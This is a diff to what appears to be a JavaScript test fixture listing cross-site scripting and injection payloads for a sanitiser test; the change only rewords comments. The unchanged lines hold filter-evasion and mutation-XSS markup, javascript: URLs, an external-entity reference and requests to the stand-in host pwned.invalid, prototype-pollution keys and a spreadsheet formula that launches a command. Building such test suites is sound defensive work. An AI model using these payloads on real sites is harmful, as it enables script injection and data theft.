@@ -1,7 +1,7 @@
 /**
- * What attackers write, of every kind that has worked somewhere: https://owasp.org/www-community/xss-filter-evasion-cheatsheet
- * and https://cure53.de/fp170.pdf (markup that changes when it is written and read again). What any of it would do is set
- * `pwned`, or ask pwned.invalid for something.
+ * Payloads of every kind of attack in https://owasp.org/www-community/xss-filter-evasion-cheatsheet and
+ * https://cure53.de/fp170.pdf (markup that changes when it is serialised and parsed again). A payload that runs sets
+ * `pwned` or makes a request to pwned.invalid.
  */
 const run = 'window.pwned=1';
 const away = 'http://pwned.invalid/';
@@ -31,13 +31,13 @@ export const payloads = [
   `<embed src="javascript:${run}">`,
   `<form action="javascript:${run}"><button autofocus>x`,
   `<activation-plot onclick=${run}></activation-plot>`,
-  // Elements that ask, lead or tell elsewhere.
+  // Elements that make requests to other hosts or navigate there.
   `<base href="${away}">`,
   `<meta http-equiv="refresh" content="0;url=${away}">`,
   `<link rel=stylesheet href="${away}">`,
   `<a href="${away}" ping="${away}">`,
   `<img src="${away}">`,
-  // Ways out of where a text stands.
+  // Text that ends its context: an attribute, an element or a string.
   `"><script>${run}</script>`,
   `'><script>${run}</script>`,
   `" onmouseover="${run}" x="`,
@@ -53,7 +53,7 @@ export const payloads = [
   `\\";${run};//`,
   `\n${run}\n`,
   `\${${run}}`,
-  // Addresses that are programs.
+  // Addresses that contain programs.
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
   ` java\tscript:${run}`,
@@ -75,7 +75,7 @@ export const payloads = [
   `expression(${run})`,
   `}*{background:url(${away})}`,
   `@import '${away}';`,
-  // Characters in other clothes.
+  // Encoded characters.
   `&lt;script&gt;${run}&lt;/script&gt;`,
   `&#60;script&#62;${run}&#60;/script&#62;`,
   `&quot;&gt;&lt;img src=x onerror=${run}&gt;`,
@@ -96,7 +96,7 @@ export const payloads = [
   `\u2066<script>${run}</script>\u2069`,
   `\u2028${run}\u2029`,
   `\ud800<script>${run}</script>\udfff`,
-  // Markup that changes when it is written and read again.
+  // Markup that changes when it is serialised and parsed again.
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
   `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
@@ -106,7 +106,7 @@ export const payloads = [
   `<x/><![CDATA[><img src=x onerror=${run}>]]>`,
   `<?xml-stylesheet href="javascript:${run}"?>`,
   `<!DOCTYPE x [<!ENTITY e SYSTEM "${away}">]>&e;`,
-  // Names that objects have already.
+  // Names that all objects have.
   `__proto__`,
   `constructor`,
   `constructor.prototype`,
@@ -118,11 +118,11 @@ export const payloads = [
   `elu(alpha=<img src=x onerror=${run}>)`,
   `relu(<script>${run}</script>)`,
   `relu"><img src=x onerror=${run}>`,
-  // Numbers that are none.
+  // Text that is almost a number.
   `1e1000`,
   `-0x1`,
   `=1+cmd|' /C calc'!A0`,
-  // More than anybody reads.
+  // Very long text.
   `<img src=x onerror=${run}>`.repeat(500),
   `${'<div>'.repeat(5000)}<script>${run}</script>`,
   'a'.repeat(60_000),
